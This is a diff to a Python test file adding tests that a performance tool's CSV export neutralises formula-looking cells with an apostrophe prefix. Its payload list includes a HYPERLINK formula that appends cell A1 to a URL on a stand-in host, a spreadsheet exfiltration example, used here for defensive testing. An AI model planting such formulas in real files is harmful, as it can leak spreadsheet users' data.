@@ -3,6 +3,7 @@ from __future__ import annotations
 
 import csv
 import datetime as _dt
+import io
 import math
 import os
 import subprocess
@@ -19,7 +20,7 @@ import openpyxl.writer.excel
 import pytest
 
 from kperf_gui.session import xlsx
-from kperf_gui.session.csvout import write_summary_csv
+from kperf_gui.session.csvout import FORMULA_START, write_summary_csv
 from kperf_gui.session.data import SUMMARY_COLUMNS, SessionData
 from kperf_gui.session.manifest import verify, write_manifest
 from kperf_gui.session.plots import DPI, NO_WALL, SIZE_IN, build_figures, write_plots
@@ -252,6 +253,8 @@ def assert_csv_matches_sheet(folder: Path) -> None:
             elif isinstance(value, (int, float)):
                 assert float(text) == value and math.isfinite(value)
                 assert isinstance(value, int) == ("." not in text and "e" not in text)
+            elif value.startswith(FORMULA_START):  # neutralised, as the Session sheet says
+                assert text == "'" + value
             else:
                 assert text == value
 
@@ -269,6 +272,55 @@ def test_csv_equals_the_summary_sheet_for_every_kind(kind, tmp_path):
     write_workbook(data, tmp_path / "results.xlsx")
     write_summary_csv(data, tmp_path / "summary.csv")
     assert_csv_matches_sheet(tmp_path)
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,2)", "@SUM(A1:A9)",
+            "-2+3", "\t=1+1", "\n=1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formula_looking_cells_are_neutralised_in_the_csv(formula, tmp_path):
+    data = make_session_data()
+    data.summary["model"] = formula
+    data.summary["precision"] = "fp8"
+    data.summary.loc[0, "precision"] = formula
+    data.summary.loc[1, "invalid_reason"] = formula
+    write_workbook(data, tmp_path / "results.xlsx")
+    write_summary_csv(data, tmp_path / "summary.csv")
+    with open(tmp_path / "summary.csv", newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    stored = xlsx.cell_value(formula)  # the sheet's text (control characters it cannot hold go)
+    assert all(r["model"] == "'" + stored for r in rows)
+    assert rows[0]["precision"] == "'" + stored and rows[1]["precision"] == "fp8"
+    assert rows[1]["invalid_reason"] == "'" + stored
+    # no field of the file starts a formula, and every other cell still equals the sheet
+    assert not any(v.startswith(FORMULA_START) for r in rows for v in r.values())
+    assert_csv_matches_sheet(tmp_path)
+    # the workbook keeps the text itself (a text cell, never a formula) and says how the CSV differs
+    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
+    summary = book["Summary"]
+    model_col = list(SUMMARY_COLUMNS).index("model") + 1
+    assert summary.cell(2, model_col).value == stored
+    assert summary.cell(2, model_col).data_type == "s"
+
+
+def test_every_formula_start_is_neutralised_and_nothing_else():
+    from kperf_gui.session.csvout import csv_line, neutralised
+
+    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
+        assert neutralised(start + "1+1") == "'" + start + "1+1"
+    for text in ("sim-llm", "bf16", " =1", "'=1", "1-2", "", "point 2 interrupted"):
+        assert neutralised(text) == text
+    # a carriage return inside a field is quoted, so the record stays one record
+    assert list(csv.reader(io.StringIO(csv_line(["'\r=1", "x"]), newline=""))) == [["'\r=1", "x"]]
+
+
+def test_negative_numbers_are_not_touched(tmp_path):
+    data = make_session_data()
+    data.summary["power_w_idle"] = -3.5
+    write_summary_csv(data, tmp_path / "summary.csv")
+    with open(tmp_path / "summary.csv", newline="", encoding="utf-8") as stream:
+        assert {r["power_w_idle"] for r in csv.DictReader(stream)} == {"-3.5"}
 
 
 def test_csv_is_utf8_with_newlines_and_no_index(exported, normal):
@@ -391,7 +443,7 @@ def test_exports_are_identical_in_another_process(exported, tmp_path):
         """
         import sys
         from pathlib import Path
-        from kperf_gui.session.csvout import write_summary_csv
+        from kperf_gui.session.csvout import FORMULA_START, write_summary_csv
         from kperf_gui.session.xlsx import write_workbook
         from tests.sessiondata_factory import make_session_data
         out = Path(sys.argv[1])
